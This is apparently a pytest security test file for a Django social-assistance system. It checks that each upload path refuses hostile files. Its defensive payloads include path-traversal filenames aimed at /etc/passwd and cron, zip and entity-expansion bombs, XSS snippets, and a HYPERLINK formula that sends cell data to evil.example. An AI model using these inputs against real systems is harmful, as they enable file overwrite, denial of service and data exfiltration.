"""The hostile-upload corpus (tests/hostile_files.py) posted to every upload path, through the
screens as the role that may upload there: each file is refused with its Chinese message, never
a 5xx, the server's memory stays bounded while it refuses, and nothing changes — the path's rows
and the audit log are as before (no refusal on these paths records an audit event).

Spreadsheet paths: the registry import (upload, then its preview and confirmation), department
files, bank returns and work-plan targets. Document paths: case attachments and the attachment
of a parameter publication. File names are sent as raw multipart headers, so that a traversal
name reaches the server as an attacker would send it (the test client would strip it).
"""

import html
import re
import uuid
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

import pytest
from django.utils.html import escape
from django.utils.translation import gettext
from openpyxl.utils import get_column_letter

from minzheng.audit.models import AuditEvent
from minzheng.cases import services as cases
from minzheng.kit import uploads, workbooks
from minzheng.kit.errors import Error as KitError
from minzheng.kit.sheets import MAX_ROWS
from minzheng.monitoring.errors import Error as MonitoringError
from minzheng.monitoring.models import Fact, FeedFile, FeedProblem, MatchReview
from minzheng.payments import banking
from minzheng.payments.errors import Error as PaymentsError
from minzheng.payments.models import Line, ReturnFile
from minzheng.procedures.models import Attachment
from minzheng.registry.models import Household, IncomeItem, Person
from minzheng.registry.tabular import HEADERS as REGISTRY_HEADERS
from minzheng.rules.models import PublishedValue
from minzheng.targets import sheet as target_sheet
from minzheng.targets.errors import Error as TargetsError
from minzheng.targets.models import Target
from tests import hostile_files as hostile
from tests.factories import DEMO_COUNTY, TOWNSHIP_A, first_village, make_household, make_user
from tests.payments.conftest import approved, pay, with_account
from tests.registry.test_import import person as registry_person
from tests.targets.test_import import HEADER as TARGET_HEADER

MB = 1024 * 1024
MEMORY_BOUND = 32 * MB  # what the web process may grow by while it refuses one file (≤ 8 seen)
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
TRAVERSAL_NAMES = ["../../etc/passwd", "..\\..\\windows\\evil", "/etc/cron.d/evil"]


# ---- the corpus -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """150,000 numbered rows (1.1 MB): built once for the module."""
    return hostile.bomb(150_000)


def _too_many_rows() -> str:
    return KitError.TOO_MANY_ROWS.text(limit=MAX_ROWS)


# file → (name sent, content builder, the reader's refusal). The builder None is the bomb.
UNREADABLE = {
    "sparse": ("hostile.xlsx", hostile.sparse, _too_many_rows()),
    "wide": (
        "hostile.xlsx",
        hostile.wide,
        KitError.TOO_MANY_COLUMNS.text(limit=workbooks.MAX_COLUMNS),
    ),
    "lying_dimension": ("hostile.xlsx", hostile.lying_dimension, _too_many_rows()),
    "bomb": ("hostile.xlsx", None, _too_many_rows()),
    "deflate_bomb": ("hostile.xlsx", hostile.deflate_bomb, KitError.WORKBOOK_BOMB.message),
    "entity_expansion": (
        "hostile.xlsx",
        hostile.entity_expansion,
        KitError.WORKBOOK_UNREADABLE.message,
    ),
    "not_a_zip": ("hostile.xlsx", hostile.not_a_zip, KitError.WORKBOOK_UNREADABLE.message),
    "csv_utf16": ("hostile.csv", hostile.csv_utf16, KitError.CSV_ENCODING.message),
    "csv_binary": ("hostile.csv", hostile.csv_binary, KitError.CSV_ENCODING.message),
    # a traversal name on a hostile workbook: the name is cut to its last part, the file refused
    "sparse_as_traversal_name": ("../../etc/passwd.xlsx", hostile.sparse, _too_many_rows()),
    "not_a_zip_as_backslash_name": (
        "..\\..\\evil.xlsx",
        hostile.not_a_zip,
        KitError.WORKBOOK_UNREADABLE.message,
    ),
}
# Files that read (their text is right) and are refused by the path's own column check.
READABLE = {
    "traversal_names": ("hostile.xlsx", hostile.traversal_names),  # header: x
    "formulas": ("hostile.xlsx", hostile.formulas),  # header: 姓名, 备注
    "csv_gbk": ("hostile.csv", hostile.csv_gbk),  # header: 姓名, 身份证号
    "formulas_as_traversal_name": ("/etc/../../formulas.xlsx", hostile.formulas),
}
WRONG_TYPES = [
    ("old.xls", hostile.formulas),
    ("setup.exe", lambda: b"MZ\x90\x00" + bytes(200)),
    ("page.html", lambda: b"<html><script>alert(1)</script></html>"),
]


def _unreadable(name: str, request) -> tuple[str, bytes, str]:
    file_name, build, message = UNREADABLE[name]
    data = request.getfixturevalue("bomb") if build is None else build()
    return file_name, data, message


def _readable(name: str) -> tuple[str, bytes]:
    file_name, build = READABLE[name]
    return file_name, build()


# ---- posting ----------------------------------------------------------------------------------


def post_file(
    client, url: str, fields: dict, file_field: str, file_name: str, data: bytes, *, bound=True
):
    """A multipart POST with the file name exactly as given (the test client sends only the last
    part of a name), its memory bounded unless the file is one the path accepts (`bound` False:
    a first import warms up the readers and the matching)."""
    boundary = uuid.uuid4().hex
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; '
        f'filename="{file_name}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode()
        + data
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    body = b"".join(parts)
    content_type = f"multipart/form-data; boundary={boundary}"
    limit = MEMORY_BOUND if bound else None
    return bounded(file_name, lambda: client.post(url, body, content_type=content_type), limit)


def bounded(file_name: str, request, limit: int | None = MEMORY_BOUND):
    """The response to `request`: not a 5xx, and the server process (this one) grew by less than
    MEMORY_BOUND meanwhile — its peak resident memory, Polars and the zip reader included (the
    parsing child apart, which has its own limit)."""
    start = _rss_from_now()
    response = request()
    grown = _peak() - start
    assert response.status_code < 500, response.content[:2000]
    if limit is not None:
        assert grown < limit, f"{file_name}: the process grew by {grown / MB:.0f} MB"
    return response


def _status(field: str) -> int:
    with open("/proc/self/status") as status:
        return int(re.search(rf"{field}:\s+(\d+) kB", status.read()).group(1)) * 1024


def _rss_from_now() -> int:
    """The process's resident memory, its high-water mark reset to it (Linux)."""
    with open("/proc/self/clear_refs", "w") as refs:
        refs.write("5")
    return _status("VmRSS")


def _peak() -> int:
    return _status("VmHWM")


def shown(response, message: str) -> bool:
    return escape(message) in response.content.decode()


def last_part(name: str) -> str:
    """The name the server keeps: the part after the last / or \\ (entities decoded)."""
    return re.split(r"[/\\]", html.unescape(name))[-1]


def events() -> int:
    return AuditEvent.objects.count()


# ---- formula cells: the value, never the formula ---------------------------------------------


def _formula_sheet(header: list[str], row: dict[str, str], formulas: dict[str, str]) -> bytes:
    """A workbook of `header` and one row; the columns in `formulas` hold that formula with the
    row's text as its cached value."""

    def text(ref: str, value: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{xml_escape(value)}</t></is></c>'

    heads = "".join(text(f"{get_column_letter(i)}1", h) for i, h in enumerate(header, 1))
    cells = []
    for i, h in enumerate(header, 1):
        ref, value = f"{get_column_letter(i)}2", row.get(h) or ""
        if h in formulas:
            formula = xml_escape(formulas[h])
            cells.append(f'<c r="{ref}" t="str"><f>{formula}</f><v>{xml_escape(value)}</v></c>')
        elif value:
            cells.append(text(ref, value))
    return hostile.workbook(f'<row r="1">{heads}</row><row r="2">{"".join(cells)}</row>')


EVIL = 'HYPERLINK("http://evil.example/?"&A1,"点击")'


# ---- the registry import ------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def clerk(client, regions, media):
    user = make_user("township_clerk", TOWNSHIP_A)
    client.force_login(user)
    return user


def registry_rows() -> tuple:
    return (
        Household.objects.count(),
        Person.objects.count(),
        IncomeItem.objects.count(),
        events(),
    )


def registry_upload(client, file_name: str, data: bytes) -> str:
    """The upload is only stored: its token (the preview reads it)."""
    response = post_file(client, "/registry/import/", {}, "file", file_name, data)
    assert response.status_code == 302, response.content[:2000]
    token = response.url.removeprefix("/registry/import/").removesuffix("/")
    return str(uuid.UUID(token))


@pytest.mark.parametrize("name", UNREADABLE)
def test_registry_import_refuses_the_unreadable_on_preview_and_confirm(
    client, clerk, media, name, request
):
    file_name, data, message = _unreadable(name, request)
    before = registry_rows()
    token = registry_upload(client, file_name, data)
    preview = bounded(file_name, lambda: client.get(f"/registry/import/{token}/"))
    assert (preview.status_code, preview.context["problem"]) == (422, message)
    assert shown(preview, message) and 'id="confirm-import"' not in preview.content.decode()
    assert preview.context["file_name"] == last_part(file_name)
    confirm = bounded(file_name, lambda: client.post(f"/registry/import/{token}/"))
    assert (confirm.status_code, confirm.context["problem"]) == (422, message)
    problems = bounded(file_name, lambda: client.get(f"/registry/import/{token}/problems.csv"))
    assert problems.status_code == 422 and shown(problems, message)
    assert registry_rows() == before
    stored = {p.relative_to(media).as_posix() for p in media.rglob("*") if p.is_file()}
    assert stored <= {f"imports/{token}", f"imports/{token}.json"}  # kept a day, then swept


@pytest.mark.parametrize("name", READABLE)
def test_registry_import_lists_the_missing_columns_and_imports_nothing(client, clerk, media, name):
    file_name, data = _readable(name)
    before = registry_rows()
    token = registry_upload(client, file_name, data)
    preview = client.get(f"/registry/import/{token}/")
    result = preview.context["result"]
    missing = [i.column for i in result.errors if i.message == "缺少必需的列。"]
    assert preview.status_code == 200 and missing and "户编号" in missing
    if name != "traversal_names":  # header x; the others have 姓名, in GBK or in formula cells
        assert "姓名" not in missing
    assert shown(preview, "缺少必需的列。")
    assert 'id="confirm-import"' not in preview.content.decode()
    confirm = client.post(f"/registry/import/{token}/")
    assert confirm.status_code == 422 and confirm.context["result"].errors
    assert registry_rows() == before


@pytest.mark.parametrize(("file_name", "build"), WRONG_TYPES)
def test_registry_import_refuses_other_types_on_the_form(client, clerk, media, file_name, build):
    before = registry_rows()
    response = post_file(client, "/registry/import/", {}, "file", file_name, build())
    message = gettext("Only .xlsx and .csv files can be imported.")
    assert response.status_code == 422  # the form again, with its error
    assert response.context["form"].errors == {"file": [message]} and shown(response, message)
    assert registry_rows() == before and list(media.iterdir()) == []


def test_registry_import_refuses_a_file_over_the_limit(client, clerk, media, monkeypatch):
    monkeypatch.setattr("minzheng.registry.views_io.MAX_UPLOAD_BYTES", 1000)
    before = registry_rows()
    response = post_file(client, "/registry/import/", {}, "file", "big.csv", b"x" * 1001)
    message = gettext("The file is larger than 20 MB.")
    assert response.status_code == 422
    assert response.context["form"].errors == {"file": [message]} and shown(response, message)
    assert registry_rows() == before and list(media.iterdir()) == []


@pytest.mark.parametrize("traversal", TRAVERSAL_NAMES)
def test_registry_import_keeps_a_traversal_name_inside_its_folder_and_imports_values(
    client, clerk, media, traversal
):
    village = first_village(TOWNSHIP_A)
    row = registry_person(village, 姓名="王芳", 家庭地址="幸福路1号")
    data = _formula_sheet(REGISTRY_HEADERS, row, {"姓名": EVIL, "家庭地址": '"幸福路"&"1号"'})
    token = registry_upload(client, f"{traversal}.xlsx", data)
    files = [p for p in media.rglob("*") if p.is_file()]
    assert sorted(p.relative_to(media).as_posix() for p in files) == [
        f"imports/{token}",
        f"imports/{token}.json",
    ]
    preview = client.get(f"/registry/import/{token}/")
    assert preview.context["file_name"] == last_part(f"{traversal}.xlsx")
    assert (preview.status_code, preview.context["result"].errors) == (200, [])
    done = client.post(f"/registry/import/{token}/")
    assert (done.status_code, done.url) == (302, "/registry/households/")
    imported = Person.objects.get()
    assert (imported.name, imported.household.address) == ("王芳", "幸福路1号")


# ---- department files -------------------------------------------------------------------------


FEED_FIELDS = {"feed": "deaths", "period": "2024-10"}
DEATHS = {"department": "公安", "feed": "死亡登记"}
FEED_REFUSALS = {
    "traversal_names": "缺少必填列：身份证号（id_number）、姓名（name）、死亡日期（died_on）；"
    "有本数据源未定义的列：x",
    "formulas": "缺少必填列：身份证号（id_number）、死亡日期（died_on）；"
    "有本数据源未定义的列：备注",
    "csv_gbk": "缺少必填列：死亡日期（died_on）",
}
FEED_REFUSALS["formulas_as_traversal_name"] = FEED_REFUSALS["formulas"]


@pytest.fixture
def county_admin(client, people):
    client.force_login(people["county_admin"])
    return people["county_admin"]


def feed_rows() -> tuple:
    return (
        FeedFile.objects.count(),
        FeedProblem.objects.count(),
        Fact.objects.count(),
        MatchReview.objects.count(),
        events(),
    )


def feed_refused(response, message: str) -> None:
    assert response.status_code == 422
    assert response.context["upload_form"].non_field_errors() == [message]
    assert shown(response, message)


def feed_form_refused(response, message: str) -> None:
    assert response.status_code == 422
    assert response.context["upload_form"].errors == {"file": [message]}
    assert shown(response, message)


@pytest.mark.parametrize("name", UNREADABLE)
def test_department_files_refuse_the_unreadable(client, county_admin, name, request):
    file_name, data, reason = _unreadable(name, request)
    before = feed_rows()
    response = post_file(client, "/monitoring/feeds/", FEED_FIELDS, "file", file_name, data)
    feed_refused(response, MonitoringError.FEED_UNREADABLE.text(reason=reason))
    assert feed_rows() == before


def test_department_files_refuse_a_parquet_that_is_not_one(client, county_admin):
    before = feed_rows()
    response = post_file(
        client, "/monitoring/feeds/", FEED_FIELDS, "file", "x.parquet", hostile.not_a_zip()
    )
    reason = KitError.PARQUET_UNREADABLE.message
    feed_refused(response, MonitoringError.FEED_UNREADABLE.text(reason=reason))
    assert feed_rows() == before


@pytest.mark.parametrize("name", READABLE)
def test_department_files_refuse_files_of_other_columns(client, county_admin, name):
    file_name, data = _readable(name)
    before = feed_rows()
    response = post_file(client, "/monitoring/feeds/", FEED_FIELDS, "file", file_name, data)
    message = MonitoringError.FEED_COLUMNS.text(problems=FEED_REFUSALS[name], **DEATHS)
    feed_refused(response, message)
    assert feed_rows() == before


@pytest.mark.parametrize(("file_name", "build"), WRONG_TYPES)
def test_department_files_refuse_other_types_on_the_form(client, county_admin, file_name, build):
    before = feed_rows()
    response = post_file(client, "/monitoring/feeds/", FEED_FIELDS, "file", file_name, build())
    feed_form_refused(response, gettext("Only .csv, .xlsx and .parquet files can be received."))
    assert feed_rows() == before


def test_department_files_refuse_a_file_over_the_limit(client, county_admin, monkeypatch):
    monkeypatch.setattr("minzheng.monitoring.forms.MAX_UPLOAD_BYTES", 1000)
    before = feed_rows()
    response = post_file(client, "/monitoring/feeds/", FEED_FIELDS, "file", "big.csv", b"x" * 1001)
    feed_form_refused(response, gettext("The file is larger than 100 MB."))
    assert feed_rows() == before


@pytest.mark.parametrize("traversal", TRAVERSAL_NAMES)
def test_department_files_keep_the_last_part_of_a_name_and_read_values(
    client, county_admin, household, traversal
):
    head = household.members.order_by("id").first()
    row = {"身份证号": head.id_number, "姓名": head.name, "死亡日期": "2024-10-12"}
    data = _formula_sheet(["身份证号", "姓名", "死亡日期"], row, {"姓名": EVIL})
    name = f"{traversal}.xlsx"
    response = post_file(client, "/monitoring/feeds/", FEED_FIELDS, "file", name, data, bound=False)
    file = FeedFile.objects.get()
    assert (response.status_code, response.url) == (302, f"/monitoring/feeds/{file.pk}/")
    assert file.filename == last_part(name)
    # the name is the cached value: the row matches its person, none goes to review
    assert (file.rows_total, file.rows_matched, file.rows_review) == (1, 1, 0)


# ---- bank returns -----------------------------------------------------------------------------


RETURNS_MISSING = PaymentsError.BAD_RETURN_FILE.text(columns="流水号、金额（元）")


@pytest.fixture
def released(client, regions):
    """A released November payroll of one 900-yuan payment, sent to the bank; the maker is
    signed in."""
    staff = {
        "maker": make_user("county_admin", DEMO_COUNTY),
        "checker": make_user("county_approver", DEMO_COUNTY),
        "clerk": make_user("township_clerk", TOWNSHIP_A),
    }
    household = make_household(first_village(TOWNSHIP_A), members=2)
    with_account(household.members.get(relation="head"), 1)
    approved(household, amount_fen=90000, created_by=staff["clerk"])
    payroll = pay(staff)
    banking.create_batch(staff["maker"], payroll.pk)
    client.force_login(staff["maker"])
    return payroll


def returns_rows(payroll) -> tuple:
    lines = tuple(payroll.lines.order_by("id").values_list("status", "returned_reason"))
    return ReturnFile.objects.count(), lines, events()


def returns_refused(response, payroll, message: str) -> None:
    assert response.status_code == 422
    assert response.context["payroll"].pk == payroll.pk  # the payroll page again
    assert [str(m) for m in response.context["messages"]] == [message]
    assert shown(response, message)


@pytest.mark.parametrize("name", UNREADABLE)
def test_bank_returns_refuse_the_unreadable(client, released, name, request):
    file_name, data, message = _unreadable(name, request)
    before = returns_rows(released)
    url = f"/payments/{released.pk}/returns/"
    returns_refused(post_file(client, url, {}, "file", file_name, data), released, message)
    assert returns_rows(released) == before


@pytest.mark.parametrize("name", READABLE)
def test_bank_returns_refuse_files_of_other_columns(client, released, name):
    file_name, data = _readable(name)
    before = returns_rows(released)
    url = f"/payments/{released.pk}/returns/"
    returns_refused(post_file(client, url, {}, "file", file_name, data), released, RETURNS_MISSING)
    assert returns_rows(released) == before


@pytest.mark.parametrize(("file_name", "build"), WRONG_TYPES)
def test_bank_returns_refuse_other_types_on_the_form(client, released, file_name, build):
    before = returns_rows(released)
    url = f"/payments/{released.pk}/returns/"
    response = post_file(client, url, {}, "file", file_name, build())
    returns_refused(response, released, gettext("Only .csv and .xlsx files can be imported."))
    assert returns_rows(released) == before


def test_bank_returns_refuse_a_file_over_the_limit(client, released, monkeypatch):
    monkeypatch.setattr("minzheng.payments.forms.MAX_RETURN_BYTES", 1000)
    before = returns_rows(released)
    url = f"/payments/{released.pk}/returns/"
    response = post_file(client, url, {}, "file", "big.csv", b"x" * 1001)
    returns_refused(response, released, gettext("The file is larger than 20 MB."))
    assert returns_rows(released) == before


def test_bank_returns_read_values_of_formula_cells_under_a_traversal_name(client, released):
    line = released.lines.get()
    header = ["流水号", "金额（元）", "状态", "失败原因"]
    reference = f"P{released.pk}-{line.pk}-1"
    row = {"流水号": reference, "金额（元）": "900.00", "状态": "失败", "失败原因": "账户已销户"}
    data = _formula_sheet(header, row, {"流水号": f'"P"&"{reference[1:]}"', "失败原因": EVIL})
    url = f"/payments/{released.pk}/returns/"
    response = post_file(client, url, {}, "file", "../../etc/回盘.xlsx", data, bound=False)
    file = ReturnFile.objects.get()
    assert (response.status_code, response.url) == (302, f"/payments/returns/{file.pk}/")
    assert (file.filename, file.returned, file.problems) == ("回盘.xlsx", 1, [])
    assert Line.objects.get(pk=line.pk).returned_reason == "账户已销户"


# ---- work-plan targets ------------------------------------------------------------------------


TARGETS_URL = "/targets/import/?year=2024"
TARGETS_MISSING = f"缺少列：{'、'.join(target_sheet.REQUIRED)}。"


@pytest.fixture
def manager(client, regions):
    user = make_user("county_admin", DEMO_COUNTY)
    client.force_login(user)
    return user


def target_rows() -> tuple:
    return Target.objects.count(), events()


def targets_refused(response, message: str, *, listed: str | None = None) -> None:
    assert response.status_code == 422
    assert response.context["form"].errors == {"file": [message]} and shown(response, message)
    if listed is not None:
        assert response.context["errors"] == [listed] and shown(response, listed)


@pytest.mark.parametrize("name", UNREADABLE)
def test_targets_import_refuses_the_unreadable(client, manager, name, request):
    file_name, data, message = _unreadable(name, request)
    before = target_rows()
    response = post_file(client, TARGETS_URL, {}, "file", file_name, data)
    targets_refused(response, TargetsError.SHEET_REFUSED.text(count=1), listed=message)
    assert target_rows() == before


@pytest.mark.parametrize("name", READABLE)
def test_targets_import_refuses_sheets_of_other_columns(client, manager, name):
    file_name, data = _readable(name)
    before = target_rows()
    response = post_file(client, TARGETS_URL, {}, "file", file_name, data)
    targets_refused(response, TargetsError.SHEET_REFUSED.text(count=1), listed=TARGETS_MISSING)
    assert target_rows() == before


@pytest.mark.parametrize(("file_name", "build"), WRONG_TYPES)
def test_targets_import_refuses_other_types_on_the_form(client, manager, file_name, build):
    before = target_rows()
    response = post_file(client, TARGETS_URL, {}, "file", file_name, build())
    targets_refused(response, gettext("Only .xlsx and .csv files can be imported."))
    assert target_rows() == before


def test_targets_import_refuses_a_file_over_the_limit(client, manager, monkeypatch):
    monkeypatch.setattr("minzheng.targets.forms.MAX_UPLOAD_BYTES", 1000)
    before = target_rows()
    response = post_file(client, TARGETS_URL, {}, "file", "big.csv", b"x" * 1001)
    targets_refused(response, gettext("The file is larger than 5 MB."))
    assert target_rows() == before


def test_targets_import_reads_values_of_formula_cells_under_a_traversal_name(client, manager):
    cells = ["1", "新增养老床位", "张", "256", "养老服务科", "2024-12-31", "", ""]
    row = dict(zip(TARGET_HEADER, cells, strict=True))
    formulas = {"工作事项": '"新增"&"养老床位"', "目标值": "200+56", "责任单位": EVIL}
    data = _formula_sheet(TARGET_HEADER, row, formulas)
    response = post_file(client, TARGETS_URL, {}, "file", "..\\..\\plan.xlsx", data, bound=False)
    assert response.status_code == 302, response.content[:2000]
    target = Target.objects.get()
    assert (target.item, target.target_value, target.owner) == ("新增养老床位", 256, "养老服务科")
    assert AuditEvent.objects.get(action="targets.imported").after["file"] == "plan.xlsx"


# ---- documents: case attachments and a publication's attachment ----------------------------------


# name → (content, the refusal)
BAD_DOCUMENTS = {
    "setup.exe": (b"MZ\x90\x00" + bytes(200), KitError.DOCUMENT_TYPE),
    "page.html": (b"<html><script>alert(1)</script></html>", KitError.DOCUMENT_TYPE),
    "table.xlsx": (hostile.formulas(), KitError.DOCUMENT_TYPE),
    "scan.pdf.exe": (PDF, KitError.DOCUMENT_TYPE),
    "noname": (PDF, KitError.DOCUMENT_TYPE),
    "image.pdf": (PNG, KitError.DOCUMENT_CONTENT),
    "zipped.pdf": (hostile.sparse(), KitError.DOCUMENT_CONTENT),
    "bomb.pdf": (hostile.deflate_bomb(), KitError.DOCUMENT_CONTENT),
    "page.png": (b"<svg onload=alert(1)>", KitError.DOCUMENT_CONTENT),
    "photo.jpg": (PDF, KitError.DOCUMENT_CONTENT),
    "../../etc/passwd.pdf": (b"root:x:0:0::/root:/bin/sh\n", KitError.DOCUMENT_CONTENT),
}


def stored_files(media: Path) -> list[Path]:
    return sorted(p for p in media.rglob("*") if p.is_file())


def inside(media: Path, relative: str) -> bool:
    target = (media / relative).resolve()
    return target.is_relative_to(media.resolve()) and target.is_file() and ".." not in relative


@pytest.fixture
def case(client, people, household, media):
    clerk = people["township_clerk"]
    client.force_login(clerk)
    return cases.apply(clerk, household.pk, "dibao", date(2024, 10, 8))


def case_rows(case) -> tuple:
    return Attachment.objects.count(), events()


def attach(client, case, file_name: str, data: bytes):
    url = f"/cases/{case.pk}/attachments/"
    return post_file(client, url, {"kind": "certificate"}, "file", file_name, data)


def case_refused(client, case, response, message: str) -> None:
    """The case page's pattern: back to the case (post/redirect/get), the message shown there."""
    assert (response.status_code, response.url) == (302, f"/cases/{case.pk}/")
    page = client.get(response.url)
    assert [str(m) for m in page.context["messages"]] == [message] and shown(page, message)


@pytest.mark.parametrize("file_name", BAD_DOCUMENTS)
def test_case_attachments_refuse_what_is_not_a_document(client, case, media, file_name):
    data, code = BAD_DOCUMENTS[file_name]
    before = case_rows(case)
    case_refused(client, case, attach(client, case, file_name, data), code.message)
    assert case_rows(case) == before and stored_files(media) == []


def test_case_attachments_refuse_a_file_over_the_limit(client, case, media, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_DOCUMENT_BYTES", 1000)
    before = case_rows(case)
    response = attach(client, case, "scan.pdf", PDF + b"0" * 1000)
    case_refused(client, case, response, KitError.DOCUMENT_TOO_LARGE.message)
    assert case_rows(case) == before and stored_files(media) == []


@pytest.mark.parametrize("traversal", [*TRAVERSAL_NAMES, "..&#47;..&#47;encoded"])
def test_case_attachments_store_a_traversal_name_under_media_root(client, case, media, traversal):
    response = attach(client, case, f"{traversal}.pdf", PDF)
    assert (response.status_code, response.url) == (302, f"/cases/{case.pk}/")
    kept = Attachment.objects.get()
    assert kept.name == last_part(f"{traversal}.pdf")
    assert inside(media, kept.file.name) and stored_files(media) == [(media / kept.file.name)]
    assert (media / kept.file.name).read_bytes() == PDF


PUBLICATION = {
    "parameter": "dibao.standard",
    "region_code": DEMO_COUNTY,
    "area": "rural",
    "start": "2025-01-01",
    "value": "1300",
    "document_number": "桐政办〔2024〕99号",
    "publish": "1",
}


@pytest.fixture
def publisher(client, regions, media):
    user = make_user("county_admin", DEMO_COUNTY)
    client.force_login(user)
    return user


def publication_rows() -> tuple:
    return PublishedValue.objects.count(), events()


def publish(client, file_name: str, data: bytes):
    return post_file(
        client, "/rules/parameters/publish/", PUBLICATION, "attachment", file_name, data
    )


def publication_refused(response, message: str) -> None:
    assert response.status_code == 422
    assert response.context["form"].errors == {"attachment": [message]} and shown(response, message)


@pytest.mark.parametrize("file_name", BAD_DOCUMENTS)
def test_publication_attachments_refuse_what_is_not_a_document(client, publisher, media, file_name):
    data, code = BAD_DOCUMENTS[file_name]
    before = publication_rows()
    publication_refused(publish(client, file_name, data), code.message)
    assert publication_rows() == before and stored_files(media) == []


def test_publication_attachments_refuse_a_file_over_the_limit(
    client, publisher, media, monkeypatch
):
    monkeypatch.setattr(uploads, "MAX_DOCUMENT_BYTES", 1000)
    before = publication_rows()
    response = publish(client, "doc.pdf", PDF + b"0" * 1000)
    publication_refused(response, KitError.DOCUMENT_TOO_LARGE.message)
    assert publication_rows() == before and stored_files(media) == []


@pytest.mark.parametrize("traversal", TRAVERSAL_NAMES)
def test_publication_attachments_store_a_traversal_name_under_media_root(
    client, publisher, media, traversal
):
    response = publish(client, f"{traversal}.pdf", PDF)
    assert (response.status_code, response.url) == (302, "/rules/parameters/publish/")
    published = PublishedValue.objects.get()
    assert inside(media, published.attachment.name)
    assert stored_files(media) == [media / published.attachment.name]
    assert (media / published.attachment.name).read_bytes() == PDF
